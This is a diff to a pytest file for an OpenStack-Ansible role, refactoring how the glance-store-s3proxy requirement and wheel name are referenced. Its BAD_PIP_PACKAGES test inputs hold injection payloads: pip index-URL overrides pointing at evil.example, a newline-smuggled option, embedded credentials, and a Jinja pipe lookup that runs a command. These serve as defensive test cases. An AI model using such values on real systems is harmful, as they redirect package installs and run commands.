@@ -37,6 +37,8 @@ import textwrap
 
 import pytest
 
+from lab.constants import PIP_REQUIREMENT, WHEEL
+
 HERE = os.path.dirname(os.path.abspath(__file__))
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
 CACHE = os.path.join(ROOT, '.cache')
@@ -44,7 +46,6 @@ OSA_VENV = os.path.dirname(os.path.dirname(sys.executable))
 OSA_BIN = os.path.join(OSA_VENV, 'bin')
 CONFIG_TEMPLATE = os.path.join(OSA_VENV, 'share', 'ansible', 'plugins', 'action', 'config_template.py')
 TOOLS_BIN = os.path.join(CACHE, 'venv-tools', 'bin')
-WHEEL = 'glance_store_s3proxy-1.2.0-py3-none-any.whl'
 
 # A run that cannot use the real config_template proves nothing: fail, never skip.
 assert os.path.exists(CONFIG_TEMPLATE), 'run with .cache/venv-osa/bin/python (ansible-config-template 2.1.1)'
@@ -427,7 +428,7 @@ def test_default_requirement_builds_and_installs_from_the_repo_servers_wheels(si
     built = venv_build(site, ours)
     assert built.returncode == 0, built.stdout
     assert (site.tmp / 'glance-venv-site' / 'glance_store_s3proxy.pth').is_file()
-    assert ours == ['glance-store-s3proxy==1.2.0']
+    assert ours == [PIP_REQUIREMENT]
     assert (site.repo_wheels / WHEEL).is_file()
 
 
@@ -473,11 +474,11 @@ def test_url_requirement_is_used_as_given_and_no_wheel_is_copied(site):
 
 BAD_PIP_PACKAGES = {
     'another package': 'requests',
-    'pip option': 'glance-store-s3proxy==1.2.0 --index-url http://evil.example/simple',
-    'second line': 'glance-store-s3proxy==1.2.0\n--extra-index-url http://evil.example/simple',
+    'pip option': PIP_REQUIREMENT + ' --index-url http://evil.example/simple',
+    'second line': PIP_REQUIREMENT + '\n--extra-index-url http://evil.example/simple',
     'credentials': 'glance-store-s3proxy @ https://user:S3cretPipPw@mirror.example.com/wheels/%s' % WHEEL,
     'jinja': "glance-store-s3proxy @ https://evil.example/{{ lookup('pipe', 'id -un') }}.whl",
-    'marker': 'glance-store-s3proxy==1.2.0; python_version > "3"',
+    'marker': PIP_REQUIREMENT + '; python_version > "3"',
 }
 
 
@@ -615,7 +616,7 @@ def test_operator_lists_that_refer_to_the_roles_variables_are_kept(site, order):
     seen, conf = site.run_osa(order=order)
     assert [(s['name'], s['type']) for s in seen['stores']] == [
         ('fast', 's3'), ('rbd', 'rbd'), ('file', 'file'), ('second', 's3')]
-    assert 'python-ironicclient' in seen['pip'] and 'glance-store-s3proxy==1.2.0' in seen['pip']
+    assert 'python-ironicclient' in seen['pip'] and PIP_REQUIREMENT in seen['pip']
     read = oslo_read(conf, [('second', 's3_store_secret_key')])
     assert read['default_backend'] == 'fast' and read[('second', 's3_store_secret_key')] == 'SK2'
 
